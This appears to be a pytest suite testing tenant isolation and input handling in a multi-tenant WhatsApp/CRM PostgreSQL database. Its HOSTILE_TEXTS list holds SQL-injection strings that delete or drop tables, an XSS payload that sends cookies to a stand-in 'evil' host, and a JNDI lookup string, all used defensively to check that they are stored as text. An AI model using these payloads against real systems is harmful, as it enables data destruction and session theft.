"""Writing what is another tenant's, and writing one's own with another's keys in it."""

from __future__ import annotations

import json
from collections.abc import Callable

import psycopg
import pytest

from tests.catalog import OUR_SCHEMAS, placed
from tests.conftest import Connection
from tests.security.arena import BAIT, MISNAMED, Arena

REFUSED = "42501"

MESSAGE = "insert into public.whatsapp_message (business_id, direction, from_number"

INSERTS = [
    MESSAGE + ") values ({business}, 'inbound', '{phone}')",
    MESSAGE + ") values ({business}, 'inbound', '{lid}')",
    MESSAGE + ") values ({business}, 'inbound', null)",
    MESSAGE + ", contact_aliases) values ({business}, 'inbound', '{lid}', '{\"{phone}\"}')",
    MESSAGE + ", lead_id) values ({business}, 'inbound', '{phone}', {lead})",
    MESSAGE + ", conversation_id) values ({business}, 'inbound', null, {conversation})",
    MESSAGE + ", provider_message_id) values ({business}, 'inbound', '{phone}', '{provider_id}')",
    MESSAGE + ", id) values ({business}, 'inbound', '{phone}', {message})",
    MESSAGE + ") values ({business}, 'inbound', '{phone}') on conflict do nothing",
    MESSAGE + ") values ({own}, 'inbound', 'nobody'), ({business}, 'inbound', '{phone}')",
    "insert into public.whatsapp_message_event (business_id, kind, provider_message_id) "
    "values ({business}, 'revoked', '{provider_id}')",
    "insert into public.whatsapp_identity_evidence (business_id, a, b, relation) "
    "values ({business}, '{lid}', '{phone}', 'same')",
    "insert into public.whatsapp_identity_evidence (business_id, a, b, relation, applied_at) "
    "values ({business}, '{lid}', '{phone}', 'same', now())",
    "insert into public.whatsapp_identity_evidence (business_id, a, relation) "
    "values ({business}, '{phone}', 'replaced')",
    "insert into public.lead (business_id, phone) values ({business}, '{phone}')",
    "insert into public.business_number values ({business}, 'phone', '{phone}')",
    "insert into onethread.webhook_reject (business_id, provider, payload, reason) "
    "values ({business}, 'x', 'x', 'x')",
    "insert into onethread.webhook (business_id, provider, secret_hash) "
    "values ({business}, 'baileys', sha256('mine'))",
    "insert into onethread.webhook (business_id, provider, instance) "
    "values ({business}, 'baileys', 'mine')",
    "insert into public.whatsapp_conversation (business_id) values ({business})",
    "insert into public.whatsapp_identity (business_id, kind, value, match_value) "
    "values ({business}, 'phone', '{phone}', '{phone}')",
    "insert into onethread.whatsapp_conversation_merge "
    "(business_id, survivor_id, absorbed_id, reason, absorbed, identity_ids) "
    "values ({business}, {conversation}, {other_conversation}, 'x', '{}', '{}')",
    "insert into public.business (id, name) values ({business}, 'mine')",
    MESSAGE + ", to_number, status) values ({business}, 'outbound', null, '{phone}', 'queued')",
    "insert into onethread.webhook_reject (business_id, provider, payload, reason) "
    "values ({business}, 's3' || 'cret', '{\"text\": \"s3' || 'cret\"}', 'x') "
    "on conflict (business_id, provider, md5(payload)) do update set reason = 'mine'",
    "insert into onethread.business_hour values ({business}, 2, '09:00', '17:00')",
    "insert into onethread.conversation_read (business_id, conversation_id, sent_at, message_id) "
    "values ({business}, {conversation}, '9999-12-30', {message})",
    "insert into onethread.conversation_read (business_id, conversation_id, sent_at, message_id) "
    "values ({business}, {conversation}, '9999-12-30', {message}) "
    "on conflict (business_id, conversation_id) do update set sent_at = excluded.sent_at",
    "insert into public.whatsapp_thread (business_id) values ({business})",
    "insert into public.crm_conversation (business_id) values ({business})",
    "insert into public.crm_lead_timeline (business_id) values ({business})",
    "insert into public.unlinked_message (business_id, direction) values ({business}, 'inbound')",
]


@pytest.mark.parametrize("login", ["writer", "all", "app"])
@pytest.mark.parametrize("statement", INSERTS)
@pytest.mark.parametrize("setting", ["{own}", "{business}"])
def test_insert_is_refused_when_it_is_for_another_business(
    arena: Arena, login: str, statement: str, setting: str
) -> None:
    if login == "app" and setting == "{business}":
        pytest.skip("the application is trusted: its setting is its word")
    with arena.login(login) as connection:
        outcome = arena.compare(
            connection, f"set local onethread.business_id = '{setting}'; {statement}"
        )
        assert outcome.error.startswith((REFUSED, "55000"))  # 55000: the view takes no rows


@pytest.mark.parametrize("login", ["writer", "all", "app"])
@pytest.mark.parametrize("address", ["{phone}", "{lid}", "0542222299", "{provider_id}"])
def test_refusal_waits_for_nobody_when_the_victim_holds_everything(
    shared_arena: Arena,
    record_property: Callable[[str, object], None],
    login: str,
    address: str,
) -> None:
    """The trigger reads and locks nothing before it is refused: it would wait here."""
    arena = shared_arena
    before = arena.attempts
    write = f"set local lock_timeout = '5s'; {MESSAGE}) values ({{to}}, 'inbound', '{address}')"
    with arena.login(login) as connection, psycopg.connect(arena.uri) as victim:
        victim.execute("select onethread.lock_for_join(%s, '{}', '{}')", [arena.victim_id])
        victim.execute("select from business where id = %s for update", [arena.victim_id])
        for table in ("whatsapp_identity", "whatsapp_conversation", "lead", "business_number"):
            victim.execute(
                f"select from {placed(table)} where business_id = %s for update", [arena.victim_id]
            )
        # An address that is being made just now.
        victim.execute(
            "insert into whatsapp_message (business_id, direction, from_number) "
            "values (%s, 'inbound', '0542222299')",
            [arena.victim_id],
        )
        with arena.untouched():
            others = arena.attack(connection, write.replace("{to}", "{business}"))
            assert others.error.startswith(REFUSED)
            # One's own of the same name waits for nobody either.
            own = arena.attack(connection, write.replace("{to}", "{own}"))
            assert own.error == ""
        victim.rollback()
    record_property("attacks", arena.attempts - before)


OWN = [
    # Keys of somebody else in a row of one's own: as if they did not exist.
    MESSAGE + ", lead_id) values ({own}, 'inbound', '{phone}', {lead})",
    MESSAGE + ", duplicate_of) values ({own}, 'inbound', '{phone}', {message})",
    MESSAGE + ", conversation_id) values ({own}, 'inbound', null, {conversation}) "
    "returning conversation_id is null, identity_id is null",
    MESSAGE + ", identity_id) values ({own}, 'inbound', null, {identity}) "
    "returning conversation_id is null, identity_id is null",
    MESSAGE + ", conversation_id, identity_id) "
    "values ({own}, 'inbound', '{phone}', {conversation}, {identity}) "
    "returning conversation_id = {conversation}, identity_id = {identity}",
    MESSAGE + ", conversation_id, identity_id) "
    "values ({own}, 'inbound', 'nobody', {conversation}, {identity}) "
    "returning conversation_id is null, identity_id is null",
    MESSAGE + ", conversation_id, identity_id) "
    "values ({own}, 'sideways', '{phone}', {conversation}, {identity}) "
    "returning conversation_id is null, identity_id is null",
    MESSAGE + ", provider_message_id) values ({own}, 'inbound', '{phone}', '{provider_id}') "
    "on conflict do nothing",
    MESSAGE + ", contact_aliases) values ({own}, 'inbound', '{lid}', '{\"{phone}\"}') "
    "returning conversation_id is null",
    "insert into onethread.conversation_read (business_id, conversation_id, sent_at, message_id) "
    "values ({own}, {conversation}, '9999-12-30', {message})",
    MESSAGE + ", to_number, status) values ({own}, 'outbound', null, '{phone}', 'queued')",
    MESSAGE + ", reply_to) values ({own}, 'inbound', '{phone}', '{provider_id}')",
    # Erased there, and nowhere else.
    MESSAGE + ", sent_at) values ({own}, 'inbound', '{erased}', '2020-01-01') "
    "returning conversation_id is null",
    "insert into public.whatsapp_message_event (business_id, kind, provider_message_id, address) "
    "values ({own}, 'revoked', '{provider_id}', '{phone}')",
    "insert into public.whatsapp_identity_evidence (business_id, a, b, relation) "
    "values ({own}, 'lead:{lead}', '{phone}', 'same')",
    "insert into public.whatsapp_identity_evidence (business_id, a, b, relation, a_key, b_key) "
    "values ({own}, '{lid}', '{phone}', 'merged', 'lead::{lead}', 'phone::{phone}')",
    "insert into public.whatsapp_identity_evidence "
    "(business_id, a, b, relation, applied_at, a_key) "
    "values ({own}, '{lid}', '{phone}', 'replaced', now(), 'lead::{lead}')",
    "insert into public.whatsapp_identity_evidence (business_id, a, relation) "
    "values ({own}, '{phone}', 'replaced')",
]


@pytest.mark.parametrize("login", ["writer", "all", "app"])
@pytest.mark.parametrize("statement", OWN)
def test_anothers_keys_are_as_unknown_ones_when_written_to_ones_own(
    arena: Arena, login: str, statement: str
) -> None:
    with arena.login(login) as connection:
        outcome = arena.compare(connection, statement)
        assert outcome.error == "" or outcome.error.startswith(("23503", "23505", REFUSED)), outcome


@pytest.mark.parametrize(
    "statement",
    [
        "update {relation} set {key} = {key} where {key} = {business}",
        "update {relation} set {key} = {business} where {key} = {own}",
        "update {relation} set {key} = {business}",
        "delete from {relation} where {key} = {business}",
        "delete from {relation} where {key} <> {own}",
        "truncate {relation}",
        "truncate {relation} cascade",
        "merge into {relation} t using (select {business} as b) s on t.{key} = s.b "
        "when matched then delete",
        "with gone as (delete from {relation} where {key} <> {own} returning 1) "
        "select count(*) from gone",
        "select count(*) from {relation} where {key} <> {own} for update",
        "insert into {relation} select * from {relation} where {key} <> {own}",
        "insert into {relation} select * from "
        "jsonb_populate_recordset(null::{relation}, '[{\"{key}\": {business}}]')",
        "alter table {relation} add column x int",
        "drop table {relation} cascade",
    ],
)
@pytest.mark.parametrize("login", ["all", "app"])
def test_no_row_of_another_is_changed_when_a_table_is_written(
    arena: Arena, login: str, statement: str
) -> None:
    tables = arena.owner.execute(
        "select distinct c.relnamespace::regnamespace || '.' || c.relname from pg_class c "
        "inner join pg_attribute a on a.attrelid = c.oid "
        f"where c.relnamespace in {OUR_SCHEMAS} and c.relkind in ('r', 'v') "
        "and (a.attname = 'business_id' or c.relname = 'business') order by 1"
    ).fetchall()
    with arena.login(login) as connection:
        for (name,) in tables:
            key = "id" if name == "public.business" else "business_id"
            outcome = arena.compare(
                connection,
                # What is the application's own stays: other tests have it.
                "set local onethread.business_id = '{own}'; "
                + statement.replace("{relation}", name).replace("{key}", key),
            )
            assert outcome.error or outcome.rowcount <= 0 or outcome.rows == [(0,)], outcome
            assert not outcome.error.startswith(MISNAMED), outcome


@pytest.mark.parametrize("login", ["writer", "all", "app"])
def test_nothing_is_copied_in_when_copy_is_used(arena: Arena, login: str) -> None:
    with arena.login(login) as connection:
        arena.attempts += 1
        with (
            pytest.raises(psycopg.errors.Error),
            connection.cursor() as cursor,
            cursor.copy(
                "copy public.whatsapp_message (business_id, direction, from_number) from stdin"
            ) as copy,
        ):
            copy.write(f"{arena.victim_id}\tinbound\t{arena.true['phone']}\n")


HOSTILE_TEXTS = [
    f"'; delete from public.whatsapp_message where business_id <> 0; -- {'x' * 10}",
    "$$; drop table public.lead cascade; $$",
    "\\'; select pg_sleep(10); --",
    "{business}); insert into public.lead (business_id) values ({business}) --",
    "<script>fetch('//evil/?' + document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "%' or '1'='1",
    "%%%___%",
    "{{7*7}} ${jndi:ldap://evil} #{1}",
    "%s %(business_id)s {0} :name ?",
    "\u202e\u0000".replace("\u0000", "") + "gnp.exe",
    "lead:{lead}",
    "phone:{business}:{phone}",
    "phone::{phone}",
    "lead:{business}:{lead}",
    "lid:{business}:{lid}",
    "(1,2,3)",
    '{"{phone}",null}',
    "NULL",
    "",
    " ",
    "\n\t\r",
]

TEXT_COLUMNS = [
    "from_number",
    "to_number",
    "participant",
    "sender_name",
    "kind",
    "body",
    "source",
    "provider",
    "provider_message_id",
    "reply_to",
    "direction",
]


@pytest.mark.parametrize("login", ["writer", "app"])
@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_text_stays_text_when_it_is_code(arena: Arena, login: str, text: str) -> None:
    """In every text column, and in the aliases; what was stored is what was sent."""
    filled = text
    for name, value in arena.true.items():
        filled = filled.replace("{" + name + "}", str(value))
    columns = ["business_id", *TEXT_COLUMNS, "contact_aliases", "media", "payload"]
    values: list[object] = [
        arena.attacker_id,
        *(filled for _ in TEXT_COLUMNS),
        [filled, filled],
        json.dumps({filled: [filled]}),
        json.dumps(filled),
    ]
    with arena.login(login) as connection:
        arena.attempts += 1
        row = connection.execute(
            f"insert into public.whatsapp_message ({', '.join(columns)}) "
            f"values ({', '.join(['%s'] * len(columns))}) on conflict do nothing returning id",
            values,
        ).fetchone()
        for a, b in ((filled, arena.own["phone"]), (arena.own["lid"], filled)):
            arena.attempts += 1
            connection.execute(
                "insert into public.whatsapp_identity_evidence "
                "(business_id, a, b, relation, source) "
                "values (%s, %s, %s, 'same', %s) on conflict do nothing",
                [arena.attacker_id, a, b, filled],
            )
        arena.attempts += 1
        connection.execute(
            "insert into public.whatsapp_message_event (business_id, kind, provider_message_id, "
            "address, actor, body, target_direction) values (%s, 'reaction', %s, %s, %s, %s, %s) "
            "on conflict do nothing",
            [arena.attacker_id, *[filled] * 5],
        )
    if row is not None:
        stored = arena.owner.execute(
            f"select {', '.join(TEXT_COLUMNS)} from whatsapp_message "
            "where business_id = %s and id = %s",
            [arena.attacker_id, row[0]],
        ).fetchone()
        assert stored == tuple(filled for _ in TEXT_COLUMNS)


@pytest.mark.parametrize("column", [*TEXT_COLUMNS, "contact_aliases", "payload", "media"])
def test_field_is_kept_or_refused_when_it_is_huge(
    arena: Arena, attacker: Connection, column: str
) -> None:
    size = 3_000_000
    value: object = "9" * size
    if column == "contact_aliases":
        value = [f"9{number:011}" for number in range(200)] + ["9" * size]
    elif column in ("payload", "media"):
        value = "[" * 900 + json.dumps("x" * size) + "]" * 900
    row = {"business_id": arena.attacker_id, "direction": "inbound", "from_number": "0543333399"}
    row[column] = value  # type: ignore[assignment]
    arena.attempts += 1
    try:
        attacker.execute(
            f"insert into public.whatsapp_message ({', '.join(row)}) "
            f"values ({', '.join(['%s'] * len(row))})",
            list(row.values()),
        )
    except psycopg.Error as error:
        # A limit of the server's own, told without a word of anybody's.
        assert (error.sqlstate or "").startswith(("54", "22", "53"))
        assert BAIT not in str(error)


@pytest.mark.parametrize(
    "document",
    [
        '{"business_id": {business}, "id": {message}}',
        '{"__proto__": {"business_id": {business}}, "constructor": 1}',
        '{"a": 1, "a": 2, "a": {"b": [null, true, 1e400]}}',
        '{"a": 123456789012345678901234567890.12345678901234567890}',
        '"\\u0041\\ud83d\\ude00"',
        "[]",
        "null",
    ],
)
def test_json_stays_json_when_it_is_crafted(
    arena: Arena, attacker: Connection, document: str
) -> None:
    for statement in (
        MESSAGE + ", media, payload) values ({own}, 'inbound', '0543333388', '%s', '%s')",
        "insert into public.whatsapp_message_event (business_id, kind, provider_message_id, "
        "payload) values ({own}, 'read', 'json', '%s')",
    ):
        outcome = arena.compare(
            attacker, statement.replace("%s", document) + " on conflict do nothing"
        )
        assert outcome.error == "" or outcome.error.startswith("22"), outcome


def test_writer_writes_its_own_when_everything_is_as_meant(arena: Arena) -> None:
    """The attacker is no stranger: what is its own it writes, and the trigger links it."""
    with arena.login("writer") as connection:
        outcome = arena.attack(
            connection,
            MESSAGE + ") values ({own}, 'inbound', '{phone}') "
            "returning conversation_id = {conversation}",
            arena.own,
        )
        assert outcome.rows == [(True,)]
        for statement in (
            "insert into public.whatsapp_message_event (business_id, kind, provider_message_id) "
            "values ({own}, 'read', 'meant') returning id > 0",
            "insert into public.whatsapp_identity_evidence (business_id, a, b, relation) "
            "values ({own}, '0543333377', '77{lid}', 'same') returning id > 0",
        ):
            assert arena.attack(connection, statement, arena.own).rows == [(True,)]
        denied = arena.attack(connection, "select body from public.whatsapp_message")
        assert denied.error.startswith(REFUSED)
